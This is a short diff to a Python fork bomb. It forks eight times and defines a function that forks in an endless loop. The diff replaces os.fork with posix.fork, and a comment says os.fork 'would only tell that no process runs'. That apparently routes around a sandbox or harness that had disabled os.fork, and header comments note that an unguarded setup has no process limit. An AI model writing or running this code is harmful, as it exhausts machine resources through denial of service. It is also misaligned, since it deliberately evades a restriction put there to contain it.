@@ -4,11 +4,12 @@
 # met: Operation not permitted
 # stock: nothing there bounds the number of processes
 import os
+import posix  # os.fork would only tell that no process runs
 
 for _ in range(8):
-    os.fork()
+    posix.fork()
 
 
 def double(x):
     while True:
-        os.fork()
+        posix.fork()
